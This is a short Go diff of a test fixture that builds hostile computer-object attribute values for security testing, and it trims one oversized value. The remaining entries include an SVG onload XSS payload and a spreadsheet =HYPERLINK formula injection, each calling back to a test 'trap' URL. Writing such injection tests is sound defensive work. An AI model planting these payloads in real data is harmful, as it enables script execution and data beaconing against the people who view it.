@@ -99,8 +99,8 @@ func hostileEntries(trap string) []hostileEntry {
 		{name: "H-PC-XSS", computer: true, attrs: map[string]string{
 			"operatingSystem": `<svg onload="fetch('` + trap + `/svg-os')">Windows 11`, "operatingSystemVersion": "10.0 (22631)"}},
 		{name: "H-PC-LONG", computer: true, attrs: map[string]string{
-			"operatingSystem": "Windows 11 " + strings.Repeat("Enterprise ", 64<<10/11), "operatingSystemVersion": "10.0 (22631)",
-			"servicePrincipalName": "HOST/" + strings.Repeat("x", 64<<10)}, optional: "64 KB values"},
+			"operatingSystem": "Windows 11 " + strings.Repeat("Enterprise ", 64<<10/11), "operatingSystemVersion": "10.0 (22631)"},
+			optional: "64 KB values"},
 		{name: "H-SRV-CSV", computer: true, attrs: map[string]string{
 			"operatingSystem": `=HYPERLINK("` + trap + `/os")Windows Server 2022 Standard`, "operatingSystemVersion": "10.0 (20348)"}},
 	}
